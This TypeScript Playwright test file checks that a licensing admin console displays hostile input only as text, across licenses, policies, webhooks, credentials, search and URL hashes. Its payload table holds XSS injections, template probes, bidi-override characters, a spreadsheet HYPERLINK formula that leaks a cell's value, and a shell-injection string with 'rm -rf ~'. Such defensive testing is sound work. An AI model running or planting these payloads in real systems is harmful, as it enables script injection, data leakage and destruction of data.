import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Page } from "playwright-core";
import { base, startService } from "../support/service.ts";
import type { Answer } from "../support/service.ts";
import { patient } from "../support/slowness.ts";
import { chromium, isSkippedWithout } from "../support/wanted.ts";
import { startBrowser } from "./browser.ts";
import { openConsole } from "./console-desk.ts";
import type { Opened } from "./console-desk.ts";

/** Hostile texts in every field that the console shows or takes. Skipped if no browser is on the PATH. */
const absent = isSkippedWithout(chromium);
const browser = absent ? undefined : await startBrowser();
const service = absent ? undefined : await startService();
afterAll(() => browser?.close());

const texts: Readonly<Record<string, string>> = {
  "an image": `<img src=x onerror="document.title='owned'">`,
  "a script": `"></textarea><script>document.title='owned'</script>`,
  "an address that runs": "javascript:document.title='owned'",
  "templates": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
  "marks of direction": "\u202Eevil\u2066 of \u2067right\u200F",
  "emoji": "🧨👩‍👩‍👧‍👦🇺🇳 é\u0301\u0301",
  "a formula": `=HYPERLINK("http://127.0.0.2:9/?"&A1,"press")`,
  "10 kB": "Wide".repeat(2_560),
  "a shell's words": "'; rm -rf ~; $(reboot) `id` \\ \"",
  "entities and escapes": "&lt;b&gt; %3Cscript%3E ../../x?y#z %E0%A4%A",
};

type Filled = { readonly policyId: string; readonly licenseId: string; readonly webhookId: string; readonly shown: Readonly<Record<"license" | "policy" | "webhook" | "access", readonly string[]>> };

/** Writes the text, or its beginning if a field takes no more. Undefined: the field refuses even that. */
async function written(send: (text: string) => Promise<Answer>, text: string): Promise<Answer | undefined> {
  for (const length of [text.length, 250, 60]) {
    const answer = await send(text.slice(0, length));
    if (answer.status < 300) return answer;
    expect(answer.status, answer.text).toBe(400);
  }
  return undefined;
}

/** A license, its policy, an address and a credential with the text in every member that takes it. */
async function fill(text: string): Promise<Filled> {
  if (service === undefined) throw new Error("no service");
  const { call, issuer } = service;
  const { body: policy } = await call("POST", `${base}/policies`, { body: { code: `hostile-${made}`, name: "Hostile", activationLimit: 3 } });
  const at = `${base}/policies/${policy.id}`;
  const named = await written((part) => call("PATCH", at, { body: { name: part } }), text);
  const described = await written((part) => call("PATCH", at, { body: { description: part } }), text);
  const featured = await written((part) => call("PATCH", at, { body: { features: { note: part } } }), text);
  const { body: { license } } = await call("POST", `${base}/licenses`, { body: { policy: policy.id, holder: { type: "user", id: `hostile-${made}` } } });
  const own = `${base}/licenses/${license.id}`;
  await call("POST", `${base}/activations`, { body: { licenseId: license.id, fingerprint: `hostile-machine-${made}` } });
  const { body: { data: [seat] } } = await call("GET", `${own}/activations`);
  const machine = await written((part) => call("PATCH", `${base}/activations/${seat.id}`, { body: { name: part } }), text);
  const titled = await written((part) => call("PATCH", own, { body: { name: part } }), text);
  const held = await written((part) => call("PATCH", own, { body: { holder: { type: "user", id: part } } }), text);
  const noted = await written((part) => call("PATCH", own, { body: { metadata: { note: part } } }), text);
  const author = `Bearer ${await issuer.mint({ sub: text.slice(0, 200), roles: ["licensing-support"] })}`;
  const suspended = await written((part) => call("POST", `${own}/suspend`, { authorization: author, body: { reason: part } }), text);
  const { body: { data: [event] } } = await call("GET", `${own}/events?sort=-sequence&limit=1`);
  const webhook = await written((part) => call("POST", `${base}/webhooks`, { body: { url: `http://127.0.0.1:9/${made}`, description: part, types: ["license.revoked"] } }), text);
  const credential = await written((part) => call("POST", `${base}/credentials`, { body: { name: part, roles: ["licensing-service"] } }), text);
  const rule = await written((part) => call("POST", `${base}/policy-definitions`, { body: { variant: "assign_role", subject: `user:${part}`, target: "role:licensing-auditor" } }), text);
  made += 1;
  const present = (...given: readonly unknown[]) => given.filter((each): each is string => typeof each === "string");
  return {
    policyId: policy.id, licenseId: license.id, webhookId: webhook?.body.id,
    shown: {
      license: present(titled?.body.license.name, held?.body.license.holder.id, noted?.body.license.metadata.note, machine?.body.activation.name, suspended === undefined ? undefined : event.reason, event.actor.id),
      policy: present(named?.body.name, described?.body.description, featured?.body.features.note),
      webhook: present(webhook?.body.description),
      access: present(credential?.body.name, rule?.body.subject),
    },
  };
}
let made = 0;

const filled = new Map<string, Filled>();
let opened: Opened;
beforeAll(async () => {
  if (browser === undefined || service === undefined) return;
  for (const [name, text] of Object.entries(texts)) filled.set(name, await fill(text));
  opened = await openConsole(browser, "Administrator", { origin: service.origin });
}, patient(120_000));

/** Opens a screen from one that has nothing, so that no wait is over while the screen before is still there. */
async function goTo(page: Page, hash: string): Promise<void> {
  const nothing = page.getByText("There is no such screen.");
  await page.evaluate(`location.hash = "#/nowhere"`);
  await nothing.waitFor();
  await page.evaluate(`location.hash = ${JSON.stringify(hash)}`);
  await nothing.waitFor({ state: "detached" });
  await page.getByRole("heading", { level: 1 }).first().waitFor();
  await expect.poll(() => page.getByText("Loading…").count()).toBe(0);
}

/** The effects of a hostile text: elements, another title, complaints of the browser. Empty: the text was only shown. The complaint of a refused request doesn't count. */
async function effects(page: Page): Promise<readonly string[]> {
  const elements = await page.locator("main :is(img, script, iframe, b, object), main [onerror], main a[href^=javascript], dialog :is(img, script, iframe)").count();
  const title = await page.title();
  return [...(elements === 0 ? [] : [`${elements} elements`]), ...(title === "Licensing" ? [] : [title]), ...opened.watched.complaints.filter((text) => !text.includes("the server responded with a status of 4"))];
}

/** The elements whose text has a mark of direction that reverses a neighbour: it is neither the only text of a block nor isolated. */
const turning = `[...document.querySelectorAll("main *")].filter((element) => {
  const own = [...element.childNodes].some((node) => node.nodeType === 3 && /[\\u202A-\\u202E\\u2066-\\u2069]/.test(node.data));
  return own && element.childNodes.length > 1 && getComputedStyle(element).unicodeBidi !== "isolate" || own && getComputedStyle(element).display === "inline" && getComputedStyle(element).unicodeBidi !== "isolate";
}).map((element) => element.outerHTML.slice(0, 200))`;

/** Opens a dialog by its button. */
const press = (name: string) => async (page: Page) => {
  await page.getByRole("button", { name, exact: true }).first().click();
  await page.getByRole("dialog").waitFor();
};

describe.skipIf(absent)("hostile texts", () => {
  test.each(Object.keys(texts))("are shown as texts in every place of a license, its policy, an address and the lists: %s", { timeout: patient(60_000) }, async (name) => {
    const { page } = opened;
    const { policyId, licenseId, webhookId, shown } = filled.get(name) ?? (await fill(name));
    const places = [
      [`#/licenses/${licenseId}`, shown.license], [`#/policies/${policyId}`, shown.policy], [`#/webhooks/${webhookId}`, shown.webhook], ["#/access", shown.access],
      [`#/licenses?policy=hostile-${[...filled.keys()].indexOf(name)}`, shown.license.slice(0, 2)], ["#/policies", shown.policy.slice(0, 1)], ["#/webhooks", shown.webhook],
      [`#/activity?license=${licenseId}`, shown.license.slice(-2)],
    ] as const;
    for (const [hash, expected] of places) {
      expect(expected.length, hash).toBeGreaterThan(0);
      await goTo(page, hash);
      for (const text of expected) await expect.poll(() => page.locator("main").textContent()).toContain(text);
      expect(await page.evaluate(turning), hash).toEqual([]);
    }
    expect(await page.evaluate("document.documentElement.scrollWidth - innerWidth")).toBe(0);
    expect(await effects(page)).toEqual([]);
  });

  type Form = { readonly at: (ids: Filled) => string; readonly open?: (page: Page) => Promise<void> };
  const ofLicense = (verb: string) => [verb, { at: ({ licenseId }: Filled) => `#/licenses/${licenseId}`, open: press(verb) }] as const;
  const forms: Readonly<Record<string, Form>> = {
    "the filters of licenses": { at: () => "#/licenses" },
    "the filters of the activity": { at: () => "#/activity" },
    "a license's page": { at: ({ licenseId }) => `#/licenses/${licenseId}`, open: (page) => page.getByText("A license file for a machine without a network").click() },
    ...Object.fromEntries(["Extend", "Change", "Hand over", "Revoke", "Rename", "Free all seats"].map(ofLicense)),
    "Change the limit": { at: ({ policyId }) => `#/policies/${policyId}`, open: press("Change the limit") },
    "Add an address": { at: () => "#/webhooks", open: press("Add an address") },
    "Add a rule": { at: () => "#/access", open: press("Add a rule") },
    "Make a credential": { at: () => "#/access", open: press("Make a credential") },
  };

  test.each(Object.keys(forms))("are taken as texts by every field of %s", { timeout: patient(120_000) }, async (name) => {
    const { page } = opened;
    const [ids] = filled.values();
    const form = forms[name];
    if (ids === undefined || form === undefined) throw new Error("nothing is filled");
    await goTo(page, "#/keys");
    await goTo(page, form.at(ids));
    await form.open?.(page);
    const isDialog = (await page.getByRole("dialog").count()) > 0;
    const fields = page.locator(isDialog ? "dialog" : "main").locator("input:not([type=checkbox], [type=date], [type=number], [type=datetime-local]), textarea");
    for (const text of Object.values(texts)) {
      const count = await fields.count();
      expect(count).toBeGreaterThan(0);
      for (let n = 0; n < count; n += 1) await fields.nth(n).fill(text);
      if (isDialog) await page.locator("dialog pre").first().textContent();
      else await page.keyboard.press("Tab");
      expect(await effects(page)).toEqual([]);
    }
    if (isDialog) await page.keyboard.press("Escape");
  });

  test.each(Object.keys(texts))("are searched for as texts, and give a message instead of the list: %s", { timeout: patient(30_000) }, async (name) => {
    const { page } = opened;
    await goTo(page, "#/licenses");
    await page.getByRole("searchbox").fill(texts[name] ?? "");
    await page.getByRole("searchbox").press("Enter");
    await page.getByRole("heading", { name: "Licenses" }).waitFor({ state: "detached" });
    await expect.poll(() => page.getByText("Loading…").count()).toBe(0);
    expect(await effects(page)).toEqual([]);
  });

  test("in an address have no effect, and the screen shows a message", async () => {
    const { page } = opened;
    for (const hash of ["#/%E0%A4%A", "#/licenses/%3Cimg%20src=x%20onerror=alert(1)%3E", "#/licenses?cursor=%3Cscript%3E&status=<b>", "#/found?text=%00<img src=x>", "#/keys/../../x", "#//////"]) {
      await page.evaluate(`location.hash = ${JSON.stringify(hash)}`);
      await page.locator("main").getByText(/./).first().waitFor();
      await expect.poll(() => page.getByText("Loading…").count()).toBe(0);
      expect(await effects(page)).toEqual([]);
    }
    await goTo(page, "#/overview");
  });

  test("would be seen as elements, as a title, and as a neighbour that is turned around (control)", async () => {
    const { page } = opened;
    expect([await effects(page), await page.evaluate(turning)]).toEqual([[], []]);
    await page.evaluate(`(() => {
      const [image, turned] = [document.createElement("img"), document.createElement("span")];
      turned.append("by \u202Eevil");
      document.querySelector("main").append(image, turned);
      document.title = "owned";
    })()`);
    expect(await effects(page)).toEqual(["1 elements", "owned"]);
    expect(await page.evaluate(turning)).toHaveLength(1);
  });
});
